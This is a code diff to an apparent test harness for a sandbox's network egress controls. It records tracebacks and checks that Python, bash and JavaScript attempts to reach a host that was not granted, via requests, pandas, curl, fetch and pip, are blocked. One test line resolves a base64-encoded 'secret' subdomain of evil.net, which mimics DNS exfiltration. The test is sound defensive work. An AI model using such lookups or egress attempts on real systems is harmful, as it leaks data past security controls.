@@ -89,13 +89,19 @@ const both = [`https://${host}:443`, `http://${host}:80`]
 interface Seen {
   readonly stdout: string
   readonly error: string | null
+  readonly traceback: string[]
   readonly network: NetworkRequest[]
 }
 const seen: Record<string, Seen> = {}
 const sandbox = await open()
 async function attempt(name: string, language: Language, code: string, network: string[] = both, where = sandbox) {
   const ran = await runIn(where, language, code, { network, env: trust, limits })
-  seen[name] = { stdout: ran.stdout, error: ran.error?.message ?? null, network: ran.network }
+  seen[name] = {
+    stdout: ran.stdout,
+    error: ran.error?.message ?? null,
+    traceback: ran.error?.traceback ?? [],
+    network: ran.network,
+  }
 }
 
 await attempt('urllib', 'python', `import urllib.request as u\nprint(u.urlopen("https://${host}/a").read().decode())`)
@@ -120,6 +126,21 @@ await attempt(
   `import urllib.request as u, hashlib\nprint(hashlib.sha256(u.urlopen("https://${host}/big").read()).hexdigest())`,
 )
 await attempt('not granted', 'python', `import urllib.request as u\nu.urlopen("https://other.example.org/")`)
+await attempt(
+  'another failure',
+  'python',
+  `import urllib.request as u\ntry: u.urlopen("https://other.example.org/")\nexcept OSError: pass\nu.urlopen("https://${host}/k")\nraise ValueError("bad figure")`,
+)
+const other = 'https://other.example.org/'
+await attempt('requests not granted', 'python', `import requests\nrequests.get("${other}")`)
+await attempt('pandas not granted', 'python', `import pandas\npandas.read_csv("${other}")`)
+await attempt('curl not granted', 'bash', `curl -sS ${other}`)
+await attempt('fetch not granted', 'javascript', `await fetch("${other}")`)
+await attempt(
+  'pip not granted',
+  'bash',
+  `python3 -m pip download --no-deps --disable-pip-version-check -q --retries 0 -i ${other}simple/ -d out tiny-feed`,
+)
 await attempt('nothing granted', 'bash', `curl -s http://${host}/`, [])
 await attempt('name asked', 'python', `import socket\nsocket.gethostbyname("c2VjcmV0.evil.net")`)
 await attempt(
